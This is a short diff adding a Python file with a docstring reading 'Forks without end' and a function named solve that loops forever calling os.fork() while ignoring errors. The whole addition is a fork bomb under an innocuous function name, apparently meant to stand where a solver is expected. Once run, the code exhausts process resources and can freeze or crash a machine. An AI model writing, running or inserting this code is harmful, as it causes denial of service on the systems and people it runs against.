@@ -1,0 +1,11 @@
+"""Forks without end."""
+
+import os
+
+
+def solve(x, where):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
